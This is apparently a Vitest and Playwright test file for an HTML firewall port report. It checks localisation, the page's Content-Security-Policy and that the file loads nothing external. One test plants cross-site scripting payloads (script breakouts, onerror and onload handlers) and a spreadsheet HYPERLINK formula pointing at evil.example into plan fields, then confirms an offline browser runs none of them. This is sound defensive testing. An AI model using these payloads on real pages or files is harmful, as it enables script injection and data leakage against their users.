import { createHash } from 'node:crypto';
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { chromium, type Browser } from '@playwright/test';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CHROMIUM, CHROMIUM_ARGS } from '../../../../../playwright.config';
import { renderExport } from '../../../../../electron/services/documents/checklist/checklist-export';
import { checklistHtml } from '../../../../../electron/services/documents/report/report-html';
import { computeMatrix } from '../../../../../shared/matrix';
import { cli } from '../../../../support/cli';
import { examplePath, examplePlan } from '../../../../support/examples';
import { exampleChecklist } from '../support';

// The HTML report is one file a network engineer opens from disk: nothing in it may load anything,
// and every text of the plan stays text, however it is written.

const html = (bytes: Uint8Array) => new TextDecoder().decode(bytes);
const sha256 = (text: string) => createHash('sha256').update(text, 'utf8').digest('base64');

/** The page's parts: its policy, its inline style and scripts, and the markup without the data. */
function parts(page: string) {
  const csp = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(page)?.[1];
  const style = /<style>([\s\S]*?)<\/style>/.exec(page)?.[1];
  const scripts = [...page.matchAll(/<script([^>]*)>([\s\S]*?)<\/script>/g)].map((m) => ({
    attributes: m[1]!,
    body: m[2]!,
  }));
  const data = scripts.find((s) => s.attributes.includes('application/json'));
  return { csp, style, scripts, data, markup: data ? page.replace(data.body, '') : page };
}

let work: string;
beforeAll(() => {
  work = mkdtempSync(join(tmpdir(), 'oe-report-'));
});
afterAll(() => rmSync(work, { recursive: true, force: true }));

describe('the HTML report on the command line', () => {
  it('writes one file for the 5-node cluster, well under 2 MB, in English and in German', async () => {
    const en = await cli([
      'export',
      examplePath('cluster-5-every-feature'),
      '--format',
      'html',
      '--out',
      work,
    ]);
    expect(en.stderr).toBe('');
    expect(en.code).toBe(0);
    const de = await cli([
      'export',
      examplePath('cluster-5-every-feature'),
      '--format',
      'html',
      '--locale',
      'de',
      '--level',
      'hosts',
      '--out',
      work,
    ]);
    expect(de.code).toBe(0);
    expect(readdirSync(work).sort()).toEqual([
      'Output-cluster-Munich-firewall-en.html',
      'Output-cluster-Munich-hosts-de.html',
    ]);
    const english = join(work, 'Output-cluster-Munich-firewall-en.html');
    const german = join(work, 'Output-cluster-Munich-hosts-de.html');
    expect(statSync(english).size).toBeLessThan(2 * 1024 * 1024);
    expect(statSync(german).size).toBeLessThan(2 * 1024 * 1024);
    const enPage = readFileSync(english, 'utf8');
    expect(enPage).toMatch(/^<!doctype html>\n<html lang="en-GB">/);
    expect(enPage).toContain('<title>Port report: Output cluster Munich</title>');
    expect(enPage).toContain('<dd>Jana Weiß</dd>');
    const dePage = readFileSync(german, 'utf8');
    expect(dePage).toContain('<html lang="de-DE">');
    expect(dePage).toContain('<title>Portbericht: Output cluster Munich</title>');
    expect(dePage).toContain('Änderungsstatus');
    expect(dePage).toContain('Freizugebende Regeln');
  });
});

describe('the HTML report in the Export step', () => {
  it('is one file of the checklist’s rules, named by plan, level and language, with a preview', async () => {
    const plan = examplePlan('cluster-3-islands');
    const result = await renderExport({ plan, format: 'html', locale: 'de', level: 'firewall' });
    expect(result.files).toHaveLength(1);
    const [file] = result.files;
    expect(file!.fileName).toBe('Output-cluster-Frankfurt-firewall-de.html');
    expect(file!.mediaType).toBe('text/html; charset=utf-8');
    expect(file!.ruleCount).toBe(computeMatrix(plan).firewallRules.length);
    expect(result.preview).toMatchObject({ kind: 'table', rowCount: file!.ruleCount });
    const page = html(file!.bytes);
    // The page's own words and the script's, in German.
    expect(page).toContain('<h2>Freizugebende Regeln</h2>');
    expect(page).toContain('"shown":"{shown} von {total} Regeln"');
    expect(page).toContain('<option value="-1">ohne Status</option>');
  });
});

describe('what the report tells the network team', () => {
  it('names the ticket, the date asked for and both contacts; a temporary rule says until when', () => {
    const checklist = exampleChecklist('cluster-5-every-feature', {
      locale: 'de',
      edit: (doc) => {
        doc.change = {
          ticket: 'CHG0012345',
          requestedDate: '2026-12-18',
          technician: { name: 'Jana Weiß', email: 'jana.weiss@example.com', phone: '+49 89 1234' },
          networkContact: { name: 'Karl Netz', email: 'k.netz@example.com' },
        };
        doc.temporary = [{ feature: 'ipp', reason: 'installation', until: '2027-01-31' }];
        doc.zoneNames = { 'oe-nodes': 'DMZ_OE' };
      },
    });
    const page = html(checklistHtml(checklist, 'firewall').bytes);
    expect(page).toContain('<dt>Change- oder Ticketnummer</dt><dd>CHG0012345</dd>');
    expect(page).toContain('<dt>Gewünscht bis (Datum)</dt><dd>18. Dezember 2026</dd>');
    expect(page).toContain(
      '<dt>Techniker/in</dt><dd>Jana Weiß · jana.weiss@example.com · +49 89 1234</dd>',
    );
    expect(page).toContain(
      '<dt>Ansprechpartner im Netzwerkteam</dt><dd>Karl Netz · k.netz@example.com</dd>',
    );
    // The customer's zone name beside the planner's, in the diagram, the grid and the filter.
    expect(page).toContain('OE-Knoten (DMZ_OE)');
    expect(page).toContain('<option value="0">Clients → OE-Knoten (DMZ_OE)</option>');
    const data = JSON.parse(parts(page).data!.body);
    const ipp = checklist.rules.firewall.findIndex((r) => r.features.join() === 'ipp');
    expect(ipp).toBeGreaterThanOrEqual(0);
    expect(data.phrases[data.rules[ipp].temporary]).toBe(
      'Befristet bis 31. Januar 2027 (Installation)',
    );
    // A rule needed by a feature that stays has no end.
    const lpr = checklist.rules.firewall.findIndex((r) => r.features.join() === 'lpr');
    expect(data.rules[lpr].temporary).toBeUndefined();
  });
});

describe('what the report may load', () => {
  const page = html(exampleChecklistHtml());

  function exampleChecklistHtml() {
    return checklistHtml(exampleChecklist('cluster-5-every-feature'), 'firewall').bytes;
  }

  it('allows nothing but its own style and script, by their hashes', () => {
    const { csp, style, scripts } = parts(page);
    const inline = scripts.filter((s) => !s.attributes.includes('application/json'));
    expect(inline).toHaveLength(1);
    expect(inline[0]!.attributes).toBe('');
    expect(csp).toBe(
      [
        "default-src 'none'",
        `style-src 'sha256-${sha256(style!)}'`,
        `script-src 'sha256-${sha256(inline[0]!.body)}'`,
        "img-src 'none'",
        "base-uri 'none'",
        "form-action 'none'",
      ].join('; '),
    );
    // The script is ES2020 as written: it compiles here as it will in the browser.
    expect(() => new Function(inline[0]!.body)).not.toThrow();
  });

  it('names no address outside its data: source URLs are text in the JSON, links only on a click', () => {
    const { markup, data } = parts(page);
    expect(data!.body).toContain('https://plossys-output-engine.docs.sealsystems.de');
    expect(markup).not.toMatch(/https?:\/\//);
    expect(markup).not.toMatch(/\s(src|href|srcset|action|poster|data)=/i);
    expect(markup).not.toMatch(/<(link|img|iframe|object|embed|audio|video|base)\b/i);
    expect(markup).not.toMatch(/url\(|@import/i);
    // Nothing in the data can end its element or open a comment.
    expect(data!.body).not.toContain('<');
    expect(JSON.parse(data!.body)).toMatchObject({ level: 'firewall' });
  });
});

describe('hostile plan texts in a real browser', () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await chromium.launch({ executablePath: CHROMIUM, args: CHROMIUM_ARGS });
  });
  afterAll(async () => {
    await browser?.close();
  });

  const NAME = '</script><img src=x onerror=alert(1)>';
  const GROUP = '<img src=x onerror="window.pwned=1">=1+1 @SUM(1)\u0007\u001b[31m';
  const CUSTOMER = `<!--<script>window.pwned=2</script>${'x'.repeat(300)}`;
  const TICKET = 'CHG-1</title><script>window.pwned=3</script>';
  const REASON = '"><svg onload=window.pwned=4>';

  it('shows every name as it was written, runs none of it and loads nothing', async () => {
    const checklist = exampleChecklist('cluster-5-every-feature', {
      hostile: (plan: any) => {
        plan.project.name = NAME;
        plan.project.customer = CUSTOMER;
        plan.project.site = '=HYPERLINK("http://evil.example/?x","y")';
        plan.clientGroups[0].name = GROUP;
        plan.change.ticket = TICKET;
        plan.change.networkContact = { name: REASON, email: '', phone: '' };
      },
    });
    // A status on every host rule of the first firewall rule, rejected with a hostile reason.
    const first = checklist.rules.firewall[0]!;
    for (const id of first.hostRuleIds) {
      checklist.plan.statuses[id] = {
        status: 'rejected',
        by: NAME,
        at: '2026-12-01',
        reason: REASON,
      };
    }
    const file = join(work, 'hostile.html');
    writeFileSync(file, checklistHtml(checklist, 'firewall').bytes);

    const context = await browser.newContext();
    await context.setOffline(true);
    const requests: string[] = [];
    const dialogs: string[] = [];
    const errors: string[] = [];
    await context.route('**', (route) =>
      route.request().url().startsWith('file:') ? route.continue() : route.abort(),
    );
    const tab = await context.newPage();
    tab.on('request', (r) => {
      if (!r.url().startsWith('file:')) requests.push(r.url());
    });
    tab.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    tab.on('pageerror', (e) => errors.push(e.message));
    tab.on('console', (m) => {
      if (m.type() === 'error') errors.push(m.text());
    });
    await tab.goto(pathToFileURL(file).href);
    await tab.locator('#rule-table tbody.rule').first().waitFor();

    expect(await tab.locator('h1').textContent()).toBe(`Port report: ${NAME}`);
    expect(await tab.title()).toBe(`Port report: ${NAME}`);
    const facts = await tab.locator('#facts dd').allTextContents();
    expect(facts).toContain(CUSTOMER);
    expect(facts).toContain(TICKET);
    expect(facts).toContain(REASON);
    // The group is one name in the rows, the filter and the diagram, written as it is.
    await tab.locator('#rule-table').getByText(GROUP, { exact: true }).first().waitFor();
    expect(await tab.locator('select[name=host] option').allTextContents()).toContain(GROUP);
    const drawn = await tab.locator('svg.diagram text').allTextContents();
    expect(drawn.some((line) => line.startsWith(GROUP.slice(0, 30)))).toBe(true);
    await tab.locator('#rule-table button.toggle').first().click();
    const details = tab.locator('.details').first();
    await expect.poll(() => details.textContent()).toContain(REASON);
    expect(await details.textContent()).toContain(`rejected by ${NAME} on 2026-12-01`);

    expect(await tab.locator('img, iframe, object, embed').count()).toBe(0);
    expect(await tab.locator('svg [onload], [onerror]').count()).toBe(0);
    expect(await tab.evaluate(() => (globalThis as { pwned?: number }).pwned)).toBe(undefined);
    expect(dialogs).toEqual([]);
    expect(requests).toEqual([]);
    expect(errors).toEqual([]);
    await context.close();
  });
});

describe('the HTML report’s probe coverage', () => {
  it('says on its cover how many rules were verified from all their sources, once a source ran', async () => {
    const plain = exampleChecklist('single-minimal');
    const byId = new Map(plain.matrix.hostRules.map((r) => [r.id, r]));
    const proved = plain.rules.firewall.find((r) =>
      r.hostRuleIds.every((id) => byId.get(id)!.sourceKey.startsWith('host:')),
    )!;
    const probes = proved.hostRuleIds.map((id) => ({
      ruleId: id,
      status: 'verified' as const,
      detail: '',
      probedAt: '2026-12-05T10:00:00.000Z',
      probeHost: byId.get(id)!.sourceName,
      sourceAddress: '',
      nat: false,
    }));
    const total = plain.rules.firewall.length;
    const page = html(
      (await checklistHtml(exampleChecklist('single-minimal', { probes }), 'firewall')).bytes,
    );
    expect(page).toMatch(
      new RegExp(`<p id="coverage">.*1 of ${total} rules verified from all their sources`),
    );
    const none = html((await checklistHtml(plain, 'firewall')).bytes);
    expect(none).not.toContain('id="coverage"');
  });
});
